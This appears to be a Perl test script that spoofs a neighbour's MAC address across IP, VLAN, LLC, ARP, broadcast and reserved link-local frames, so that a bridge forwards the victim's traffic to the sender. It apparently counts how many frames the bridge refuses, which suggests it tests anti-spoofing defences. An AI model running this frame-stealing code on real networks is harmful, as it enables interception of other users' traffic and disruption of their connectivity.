# Sends frames that carry a neighbour's address as their source, so that the bridge delivers his frames here.
#
#   steal-frames.pl KIND VICTIM-MAC BRIDGE-MAC SECONDS RATE
#
# KIND: ip, vlan (tagged), double-vlan, llc (802.3 with LLC), arp, broadcast, or link-local (the sixteen reserved
# destinations 01:80:c2:00:00:00 to 0f, among them STP's and LLDP's, which a bridge handles before it filters).
require(($0 =~ m{^(/.*)/})[0] . '/common.pl');
use strict;
use warnings;

my ($kind, $victim, $bridge, $seconds, $rate) = @ARGV;
my ($from, $to) = (mac($victim), mac($bridge));
my $everyone = "\xff" x 6;
my $packet = ipv4('192.0.2.66', '192.0.2.67', 17, udp(9, 9, 'x'));
my $bpdu = "\x42\x42\x03" . "\0" x 35;
my %made = (
    ip => sub { ethernet($to, $from, 0x0800, $packet) },
    broadcast => sub { ethernet($everyone, $from, 0x0800, $packet) },
    vlan => sub { ethernet($to, $from, 0x8100, pack('n n', 7, 0x0800) . $packet) },
    'double-vlan' => sub { ethernet($to, $from, 0x88a8, pack('n n n n', 7, 0x8100, 8, 0x0800) . $packet) },
    llc => sub { ethernet($to, $from, length $bpdu, $bpdu) },
    arp => sub {
        my @claim = ($from, "\0" x 4, '', "\0" x 4);
        ethernet($everyone, $from, 0x0806, pack('n n C C n a6 a4 a6 a4', 1, 0x0800, 6, 4, 1, @claim));
    },
    'link-local' => sub {
        map { ethernet(pack('H10 C', '0180c20000', $_), $from, $_ == 0x0e ? 0x88cc : length $bpdu, $bpdu) } 0 .. 15;
    },
);
my (undef, $send) = frames();
my ($sent, $refused) = (0, 0);
for (1 .. $seconds * $rate) {
    $send->($_) ? $sent++ : $refused++ for $made{$kind}->();
    started() if $_ == 1;
    pause(1 / $rate);
}
report(sent => $sent, refused => $refused);
